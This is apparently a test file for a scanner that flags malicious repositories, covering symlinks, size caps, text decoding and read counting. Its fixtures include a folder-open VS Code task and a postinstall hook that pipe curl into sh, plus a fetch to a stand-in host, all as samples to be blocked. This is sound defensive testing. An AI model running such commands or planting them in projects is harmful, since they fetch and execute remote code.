/** Folders: symlinks reported and never read through, caps that make a scan incomplete, text decoding, one read per file. */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import fs, { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { syncBuiltinESMExports } from 'node:module';
import path from 'node:path';
import { textIfText } from '../src/acquire/bytes.js';
import { BaseWorkspace, keptTextChars } from '../src/acquire/workspace.js';
import { DEFAULT_LIMITS } from '../src/options.js';
import { scanFolder, tempDir } from './helpers.js';

describe('folder acquisition', () => {
  let t: ReturnType<typeof tempDir>;
  beforeEach(() => {
    t = tempDir();
  });
  afterEach(() => t.cleanup());

  it('never reads through a symlink that points outside the root, and says so', async () => {
    const outside = path.join(t.dir, 'secret.js');
    writeFileSync(outside, "fetch('http://198.51.100.77:1224/pdown')\n");
    const root = path.join(t.dir, 'repo');
    mkdirSync(root);
    writeFileSync(path.join(root, 'index.js'), 'console.log(1)\n');
    symlinkSync(outside, path.join(root, 'config.js'));
    symlinkSync('/', path.join(root, 'rootfs'));
    const r = await scanFolder(root);
    assert.equal(r.findings.length, 0, 'content behind the link was not read');
    const links = r.diagnostics.filter((d) => d.code === 'symlink-not-followed');
    assert.deepEqual(links.map((d) => d.file).sort(), ['config.js', 'rootfs']);
    assert.ok(links.every((d) => /outside the scanned tree/.test(d.message)));
  });

  it('a file over the size limit makes the scan incomplete unless its header proves it is media', async () => {
    writeFileSync(path.join(t.dir, 'big.js'), Buffer.alloc(2048, 0x61));
    const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(2048)]);
    writeFileSync(path.join(t.dir, 'photo.png'), png);
    const r = await scanFolder(t.dir, { limits: { maxFileBytes: 1024 } });
    assert.equal(r.complete, false);
    const big = r.diagnostics.find((d) => d.file === 'big.js');
    const photo = r.diagnostics.find((d) => d.file === 'photo.png');
    assert.equal(big?.incomplete, true);
    assert.equal(photo?.incomplete, false);
  });

  it('depth and file-count caps are diagnostics, never silent', async () => {
    let dir = t.dir;
    for (let i = 0; i < 6; i++) {
      dir = path.join(dir, `d${i}`);
      mkdirSync(dir);
    }
    writeFileSync(path.join(dir, 'deep.js'), 'x');
    const deep = await scanFolder(t.dir, { limits: { maxDepth: 3 } });
    assert.ok(deep.diagnostics.some((d) => d.code === 'depth-limit'));
    assert.equal(deep.complete, false);
    for (let i = 0; i < 20; i++) writeFileSync(path.join(t.dir, `f${i}.txt`), 'x');
    const many = await scanFolder(t.dir, { limits: { maxFiles: 5 } });
    assert.ok(many.diagnostics.some((d) => d.code === 'file-count-limit'));
    assert.equal(many.complete, false);
  });

  it('reads UTF-16 files with a BOM (a tasks.json saved as UTF-16 still blocks)', async () => {
    mkdirSync(path.join(t.dir, '.vscode'));
    const json = JSON.stringify({
      version: '2.0.0',
      tasks: [{ label: 'x', type: 'shell', command: 'curl -s https://a.invalid/settings/linux?flag=1 | sh', runOptions: { runOn: 'folderOpen' } }],
    });
    writeFileSync(path.join(t.dir, '.vscode', 'tasks.json'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(json, 'utf16le')]));
    const r = await scanFolder(t.dir);
    assert.equal(r.verdict, 'block');
  });

  it('malformed manifests are diagnostics, not crashes', async () => {
    writeFileSync(path.join(t.dir, 'package.json'), '{"name": "x", "scripts": {"postinstall": "curl -s http://198.51.100.2/x | sh",');
    mkdirSync(path.join(t.dir, '.vscode'));
    writeFileSync(path.join(t.dir, '.vscode', 'tasks.json'), '{ "tasks": [ /* unterminated');
    const r = await scanFolder(t.dir);
    assert.equal(r.complete, false);
    assert.ok(r.diagnostics.some((d) => d.code === 'parse-error' && d.file === 'package.json'));
    assert.ok(r.diagnostics.some((d) => d.code === 'parse-error' && d.file === '.vscode/tasks.json'));
    assert.equal(r.verdict, 'block', 'what could be read was still analysed');
  });
});

describe('reading a folder once', () => {
  let t: ReturnType<typeof tempDir>;
  let opens: Map<string, number>;
  let restore: () => void;
  beforeEach(() => {
    t = tempDir();
    // Count every open of a file under the scanned root: the folder acquirer opens files with fs.openSync.
    opens = new Map();
    const orig = fs.openSync;
    const root = t.dir;
    fs.openSync = function (p: fs.PathLike, ...rest: unknown[]) {
      if (typeof p === 'string' && p.startsWith(root + path.sep)) opens.set(path.relative(root, p), (opens.get(path.relative(root, p)) ?? 0) + 1);
      return (orig as (...a: unknown[]) => number).call(fs, p, ...rest);
    } as typeof fs.openSync;
    syncBuiltinESMExports();
    restore = () => {
      fs.openSync = orig;
      syncBuiltinESMExports();
    };
  });
  afterEach(() => {
    restore();
    t.cleanup();
  });

  /** A take-home-shaped tree: source that passes the prefilter and source that does not, configs, docs, small files, an image. */
  function writeTree(): void {
    const files: Record<string, string | Buffer> = {
      'package.json': JSON.stringify({ name: 'shop', version: '1.0.0', dependencies: { express: '^4.21.2' } }),
      'README.md': '# Shop\n\nRun `npm start`.\n',
      'public/logo.png': Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), randomBytes(3000)]),
      '.vscode/settings.json': '{ "editor.tabSize": 2 }\n',
    };
    for (let i = 0; i < 30; i++) {
      files[`src/plain${i}.js`] = `export function add${i}(a, b) {\n  return a + b + ${i};\n}\n`.repeat(20);
      files[`src/net${i}.js`] = `const axios = require('axios');\nmodule.exports = () => axios.get('https://api.example.com/items/${i}');\n`;
      files[`docs/note${i}.txt`] = `note ${i}: `.padEnd(300, 'x');
    }
    for (const [rel, body] of Object.entries(files)) {
      mkdirSync(path.dirname(path.join(t.dir, rel)), { recursive: true });
      writeFileSync(path.join(t.dir, rel), body);
    }
    opens.clear();
  }

  it('opens each file at most once more than the tree digest, with the result cache on and off', async () => {
    writeTree();
    const cacheDir = path.join(tempDir('lurescan-cache-').dir);
    try {
      const r = await scanFolder(t.dir, { analysisCacheDir: cacheDir });
      assert.equal(r.verdict, 'pass');
      assert.equal(opens.size, 94);
      // The digest opens every file; the nested-archive sniff and the LFS pointer check use the heads it kept; the
      // source index shares its reads with the rules that read every text file.
      const worst = Math.max(...opens.values());
      assert.ok(worst <= 2, JSON.stringify([...opens].filter(([, n]) => n > 2)));
      assert.equal(opens.get('public/logo.png'), 1);
      assert.equal(opens.get('docs/note0.txt'), 2);
    } finally {
      rmSync(cacheDir, { recursive: true, force: true });
    }
    opens.clear();
    const r = await scanFolder(t.dir);
    assert.equal(r.verdict, 'pass');
    // Without a digest, the archive sniff reads each file's head (kept for the other sniffs), and one more read serves
    // the index and every rule.
    assert.ok(Math.max(...opens.values()) <= 2, JSON.stringify([...opens].filter(([, n]) => n > 2)));
    assert.equal(opens.get('public/logo.png'), 1);
  });

  it('still reports a Git LFS pointer when the heads come from the digest', async () => {
    writeTree();
    fs.writeFileSync(path.join(t.dir, 'src/loader.js'), `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 123456\n`);
    const cacheDir = tempDir('lurescan-cache-').dir;
    try {
      for (const options of [{ analysisCacheDir: cacheDir }, {}]) {
        const r = await scanFolder(t.dir, options);
        assert.equal(r.complete, false);
        assert.deepEqual(
          r.diagnostics.filter((d) => d.code === 'lfs-pointer').map((d) => d.file),
          ['src/loader.js'],
        );
      }
    } finally {
      rmSync(cacheDir, { recursive: true, force: true });
    }
  });
});

describe('the text cache of a workspace', () => {
  it('keeps the first texts it is given instead of evicting: a second pass over a larger tree reads only the rest again', async () => {
    const loads = new Map<string, number>();
    const mib = 1024 * 1024;
    const entries = Array.from({ length: 40 }, (_, i) => {
      const p = `f${String(i).padStart(2, '0')}.txt`;
      return {
        path: p,
        size: mib,
        kind: 'file' as const,
        load: async () => {
          loads.set(p, (loads.get(p) ?? 0) + 1);
          return Buffer.alloc(mib, 'a');
        },
      };
    });
    const ws = new BaseWorkspace('/virtual', { source: 'virtual' }, entries, { ...DEFAULT_LIMITS, maxTotalBytes: 1024 * mib }, []);
    // Two rules that each read every text file, in path order (32 MiB of cache for 40 MiB of text).
    for (let pass = 0; pass < 2; pass++) for (const f of ws.files) assert.equal((await textIfText(f))?.length, mib);
    const total = [...loads.values()].reduce((a, b) => a + b, 0);
    assert.equal(total, 40 + 8);
    assert.equal(loads.get('f00.txt'), 1);
    assert.equal(loads.get('f39.txt'), 2);
  });

  it('keeps a quarter as much text for a tree whose files add up to more than 256 MiB', async () => {
    const mib = 1024 * 1024;
    const tree = (files: number) =>
      new BaseWorkspace(
        '/virtual',
        { source: 'virtual' },
        Array.from({ length: files }, (_, i) => ({ path: `f${String(i).padStart(3, '0')}.txt`, size: mib, kind: 'file' as const, load: async () => Buffer.alloc(mib, 'a') })),
        { ...DEFAULT_LIMITS, maxTotalBytes: 1024 * mib },
        [],
      );
    assert.equal(keptTextChars(256 * mib, 32 * mib), 32 * mib);
    assert.equal(keptTextChars(256 * mib + 1, 32 * mib), Math.floor(8 * mib * (256 * mib / (256 * mib + 1))));
    // A tree four times the bound keeps a quarter as much again: the same share of the tree.
    assert.equal(keptTextChars(1024 * mib, 32 * mib), 2 * mib);
    for (const [files, kept] of [
      [200, 32],
      [300, 6],
    ]) {
      const ws = tree(files);
      for (const f of ws.files.slice(0, 40)) await textIfText(f);
      assert.equal(ws.files.slice(0, 40).filter((f) => ws.cache.get(f) !== undefined).length, kept, `${files} MiB tree`);
    }
  });
});
